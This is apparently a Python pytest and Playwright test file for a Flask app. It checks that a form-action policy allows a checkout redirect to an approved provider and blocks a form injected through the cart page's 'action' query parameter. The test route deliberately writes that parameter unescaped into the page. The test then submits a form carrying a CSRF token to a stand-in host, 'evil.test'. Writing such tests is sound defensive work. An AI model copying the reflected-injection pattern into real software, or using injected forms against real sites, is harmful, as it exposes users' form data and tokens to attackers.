"""Redirects to another site that code chose, in Chromium, which applies form-action to what follows a form too."""

from __future__ import annotations

import ssl
import threading
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from urllib.parse import urlsplit

import pytest
import trustme
from flask import Blueprint, redirect, request
from flask.typing import ResponseReturnValue
from flask_wtf.csrf import generate_csrf
from playwright.sync_api import Page
from werkzeug.serving import make_server

from app import create_app
from app.security.urls import may_redirect_to
from app.visitors import public
from tests.attacker import Site

PROVIDER: list[str] = []  # the host and the port of the other site

bp = Blueprint("tested", __name__)


@bp.get("/tested-cart")
@public
def cart() -> str:
    """A form of the app, and one that an attacker has injected."""
    token = f"<input type=hidden name=csrf_token value='{generate_csrf()}'>"
    forms = {"pay": "/tested-pay", "injected": request.args.get("action", "")}
    return "<!DOCTYPE html><title>Cart</title>" + "".join(
        f"<form method=post action='{action}'>{token}<button id={name}></button></form>"
        for name, action in forms.items()
    )


@bp.post("/tested-pay")
@public
@may_redirect_to(lambda: PROVIDER[0], reason="The checkout is hosted there.")
def pay() -> ResponseReturnValue:
    return redirect(f"https://{PROVIDER[0]}/paid", 303)


@pytest.fixture
def shop(app_config: dict[str, object], authority: trustme.CA, attacker: Site) -> Iterator[str]:
    PROVIDER[:] = [urlsplit(attacker.page("paid")).netloc]
    with ThreadPoolExecutor(1) as aside:  # Playwright's event loop runs in this thread, and async teardowns mind
        app = aside.submit(create_app, app_config).result()
    app.register_blueprint(bp)
    tls = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    authority.issue_cert("localhost").configure_cert(tls)
    server = make_server("127.0.0.1", 0, app, threaded=True, ssl_context=tls)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"https://localhost:{server.server_port}"
    server.shutdown()
    thread.join()


def test_10_S2_a_form_reaches_the_site_that_code_chose(shop: str, page: Page, attacker: Site) -> None:
    page.goto(f"{shop}/tested-cart")
    page.click("#pay")
    page.wait_for_url(f"https://{PROVIDER[0]}/paid")
    assert "/paid" in attacker.requests


def test_10_S2_an_injected_form_still_reaches_no_other_site(shop: str, page: Page, attacker: Site) -> None:
    port = PROVIDER[0].partition(":")[2]
    page.goto(f"{shop}/tested-cart?action=https://evil.test:{port}/")  # every name leads to the same server
    page.eval_on_selector("#injected", "button => button.click()")
    page.wait_for_timeout(300)
    assert page.url.startswith(f"{shop}/tested-cart")
    assert attacker.requests == []
